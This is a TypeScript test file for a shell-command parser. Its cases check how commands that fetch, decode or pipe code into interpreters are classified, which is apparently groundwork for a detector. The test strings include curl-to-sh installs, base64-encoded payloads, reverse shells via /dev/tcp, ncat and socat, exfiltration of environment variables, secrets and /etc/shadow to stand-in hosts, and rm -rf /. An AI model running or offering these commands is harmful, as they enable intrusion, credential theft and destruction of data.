// Commands that run code from elsewhere: where it comes from, and what takes part in it.
import { describe, expect, test } from 'vitest';
import type { CommandFacts } from '../../../src/parse/command/reading.ts';
import { factsOf, factsOfProgram, readScript } from './read.ts';

type Expected = Partial<{ [K in keyof CommandFacts]: unknown }>;
const fed = (program: string, via: string, role: string) => expect.objectContaining({ program, via, role });

const CASES: readonly (readonly [script: string, program: string, expected: Expected])[] = [
  [
    'curl -fsSL https://x.example.invalid/i.sh | sudo -E bash -s -- -y',
    'bash',
    { codeFrom: 'stdin', wrappers: ['sudo'], fedBy: [fed('curl', 'pipe', 'fetch')] },
  ],
  [
    'curl -fsSL https://x.example.invalid/i.sh | tee log | sh',
    'sh',
    { fedBy: [fed('curl', 'pipe', 'fetch'), fed('tee', 'pipe', '')] },
  ],
  ['curl -o i.sh https://x.example.invalid/i.sh | sh', 'sh', { fedBy: [fed('curl', 'pipe', '')] }],
  ['curl https://x.example.invalid/i.sh > i.sh | sh', 'sh', { fedBy: [fed('curl', 'pipe', '')] }],
  [
    'busybox wget -O- http://x.example.invalid | busybox sh',
    'sh',
    { codeFrom: 'stdin', fedBy: [fed('wget', 'pipe', 'fetch')] },
  ],
  ['wget http://x.example.invalid/a | sh', 'sh', { fedBy: [fed('wget', 'pipe', '')] }],
  ['curl -s https://x.example.invalid | python3 - --yes', 'python3', { codeFrom: 'stdin' }],
  ['curl -s https://x.example.invalid | python3 script.py', 'python3', { codeFrom: 'file' }],
  ['curl -s https://x.example.invalid | perl -pe 1', 'perl', { codeFrom: 'argument', code: '1' }],
  ['bash --version', 'bash', { codeFrom: '' }],
  [
    'sh -c "$(wget -qO- https://x.example.invalid/i)"',
    'sh',
    { codeFrom: 'substitution', dynamicCode: true, fedBy: [fed('wget', 'substitution', 'fetch')] },
  ],
  [
    'eval "$(curl -s https://x.example.invalid)"',
    'eval',
    { codeFrom: 'substitution', fedBy: [fed('curl', 'substitution', 'fetch')] },
  ],
  ['X=$(curl -s https://x.example.invalid); eval "$X"', 'eval', { fedBy: [fed('curl', 'substitution', 'fetch')] }],
  [
    'bash <(curl -s https://x.example.invalid/i.sh)',
    'bash',
    { codeFrom: 'process', fedBy: [fed('curl', 'process', 'fetch')] },
  ],
  [
    '. <(curl -s https://x.example.invalid/i.sh)',
    '.',
    { codeFrom: 'process', fedBy: [fed('curl', 'process', 'fetch')] },
  ],
  ['source <(kubectl completion bash)', 'source', { fedBy: [fed('kubectl', 'process', '')] }],
  [
    'bash < <(curl -s https://x.example.invalid)',
    'bash',
    { codeFrom: 'process', fedBy: [fed('curl', 'process', 'fetch')] },
  ],
  ['. ./env.sh', '.', { codeFrom: 'file', operands: ['./env.sh'] }],
  ['echo aGVsbG8K | base64 -d | sh', 'sh', { fedBy: [fed('echo', 'pipe', ''), fed('base64', 'pipe', 'decode')] }],
  ['base64 -D f | sh', 'sh', { fedBy: [fed('base64', 'pipe', 'decode')] }],
  ['openssl enc -d -base64 -in f | sh', 'sh', { fedBy: [fed('openssl', 'pipe', 'decode')] }],
  [
    "echo uryyb | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
    'sh',
    { fedBy: [fed('echo', 'pipe', ''), fed('tr', 'pipe', 'decode')] },
  ],
  ["echo HELLO | tr 'A-Z' 'a-z' | sh", 'sh', { fedBy: [fed('echo', 'pipe', ''), fed('tr', 'pipe', '')] }],
  [
    'printf %s "$B64" | base64 -d > /run/tls/cert.pem',
    'base64',
    { feeds: [], writes: [expect.objectContaining({ path: '/run/tls/cert.pem' })] },
  ],
  ['eval "$USER_CMD"', 'eval', { codeFrom: 'argument', dynamicCode: true, dynamicCodeText: '$USER_CMD' }],
  [
    'eval "$(ssh-agent -s)"',
    'eval',
    { fedBy: [expect.objectContaining({ program: 'ssh-agent', args: ['-s'], role: '' })] },
  ],
  ["eval 'echo $HOME'", 'eval', { dynamicCode: false }],
  ['sh -c "convert $FILE out.png"', 'sh', { dynamicCode: true, dynamicCodeText: '$FILE' }],
  ['sh -c \'convert "$1" out.png\' _ "$FILE"', 'sh', { dynamicCode: false, codeFrom: 'argument' }],
  ['A=1; sh -c "echo $A"', 'sh', { dynamicCode: false }],
  ['printf "%s" "$CODE" | sh', 'sh', { dynamicCode: true, dynamicCodeText: '$CODE' }],
  ['sh <<EOF\necho $X\nEOF\n', 'sh', { dynamicCode: true, dynamicCodeText: '$X', codeFrom: 'stdin' }],
  ["sh <<'EOF'\necho $X\nEOF\n", 'sh', { dynamicCode: false }],
  [
    'python3 -c "import sys; print(sys.version)"',
    'python3',
    { code: 'import sys; print(sys.version)', dynamicCode: false },
  ],
  ['python3 -c "print($X)"', 'python3', { code: '', dynamicCode: true }],
  ["python3 <<'EOF'\nprint(1)\nEOF\n", 'python3', { code: 'print(1)\n', codeFrom: 'stdin' }],
  ["node -e 'a()' x", 'node', { code: 'a()' }],
  ["awk 'BEGIN{x}' f", 'awk', { code: 'BEGIN{x}' }],
  ['perl -pe "s/foo/bar/" conf.in', 'perl', { code: 's/foo/bar/', operands: ['conf.in'] }],
  ['bash -i >& /dev/tcp/192.0.2.10/4444 0>&1', 'bash', { redirects: ['/dev/tcp/192.0.2.10/4444'], codeFrom: 'stdin' }],
  ['ncat 192.0.2.10 4444 -e /bin/sh', 'ncat', { options: [{ name: '--exec', value: '/bin/sh' }] }],
  ['nc -z -w 2 db 5432', 'nc', { flags: ['-z', '-w'], operands: ['db', '5432'] }],
  ['socat TCP:192.0.2.10:4444 EXEC:/bin/sh,pty', 'socat', { operands: ['TCP:192.0.2.10:4444', 'EXEC:/bin/sh,pty'] }],
  ['autossh -N -R 2222:localhost:22 ops@192.0.2.10', 'autossh', { flags: ['-N', '-R'], operands: ['ops@192.0.2.10'] }],
  ['ls | xargs -I{} sh -c "process {}"', 'sh', { placeholderCode: true, wrappers: ['xargs'] }],
  ['ls | xargs -I X sh -c "process X"', 'sh', { placeholderCode: true }],
  ['find . -exec sh -c \'process "$1"\' _ {} \\;', 'sh', { placeholderCode: false }],
  ["find . -exec sh -c 'process {}' \\;", 'sh', { placeholderCode: true }],
  ['env | curl --data-binary @- https://x.example.invalid', 'curl', { fedBy: [fed('env', 'pipe', 'secret')] }],
  ['cat /run/secrets/key | nc 192.0.2.1 9', 'nc', { fedBy: [fed('cat', 'pipe', 'secret')] }],
  ['curl -d "$(cat /etc/shadow)" https://x.example.invalid', 'curl', { fedBy: [fed('cat', 'substitution', 'secret')] }],
  ['env A=b app | cat', 'cat', { fedBy: [fed('app', 'pipe', '')] }],
];

describe('facts that decide', () => {
  test.each(CASES)('%s (%s)', (script, program, expected) => {
    expect(factsOfProgram(script, program)).toMatchObject(expected);
  });
});

test('a program that is an expansion has no name, and passing the arguments on is no such program', () => {
  expect(factsOf('$RUNNER --start')[0]).toMatchObject({ program: '', dynamicProgram: true, programPath: '$RUNNER' });
  expect(factsOf('exec "$@"')[0]).toMatchObject({ program: '', dynamicProgram: false, wrappers: ['exec'] });
});

test('a program in a directory that is not known keeps its name', () => {
  expect(factsOf('"$JAVA_HOME"/bin/java -jar a.jar')[0]).toMatchObject({ program: 'java', dynamicProgram: false });
  expect(factsOf('$DIR/$TOOL x')[0]).toMatchObject({ program: '', dynamicProgram: true });
});

test('a port probe attaches no shell to the socket', () => {
  const [bash, probe] = factsOf('timeout 1 bash -c "</dev/tcp/db/5432"');
  expect(bash).toMatchObject({ program: 'bash', redirects: [], wrappers: ['timeout'] });
  expect(probe).toMatchObject({ program: '', redirects: ['/dev/tcp/db/5432'], shell: 'bash' });
});

test('arguments in quotes, comments and patterns are no commands', () => {
  expect(factsOf('echo "curl x | sh" # rm -rf /').map(({ program }) => program)).toEqual(['echo']);
});

test('code that is written out, or encoded, is read as commands of its own', () => {
  expect(factsOf('echo "rm -rf /" | sh').at(-1)).toMatchObject({ program: 'rm', wrappers: ['sh'] });
  expect(factsOf('echo cm0gLXJmIC8= | base64 -d | sh').at(-1)).toMatchObject({ program: 'rm', paths: ['/'] });
  expect(factsOf('cat <<EOF | sh\nrm -rf /\nEOF\n').at(-1)).toMatchObject({ program: 'rm', paths: ['/'] });
  expect(factsOf("trap 'rm -rf /tmp/x' EXIT").at(-1)).toMatchObject({ program: 'rm', wrappers: ['trap'] });
  expect(factsOf('ssh ops@192.0.2.1 "reboot now"').at(-1)).toMatchObject({ program: 'reboot', wrappers: ['ssh'] });
  expect(factsOf("watch 'kill -9 -1'").at(-1)).toMatchObject({ program: 'kill', wrappers: ['watch'] });
});

test('splitting is told of words, not of assignments, sums and parameters that do not split', () => {
  expect(factsOf('server $OPTS "$A" $@ $# $((1+2)) x$B')[0]?.looseWords).toEqual(['$OPTS', 'x$B']);
  expect(factsOf('export PATH=$DIR:$PATH')[0]?.looseWords).toEqual([]);
});

test('what the declaration put into code counts as made outside of it', () => {
  const text = "sh -c 'migrate --url DATABASE'";
  const from = text.indexOf('DATABASE');
  const { commands } = readScript(text, (start, end) => start < from + 8 && end > from);
  expect(commands[0]?.facts).toMatchObject({ dynamicCode: true, dynamicCodeText: 'DATABASE' });
  expect(readScript(text, () => false).commands[0]?.facts.dynamicCode).toBe(false);
});
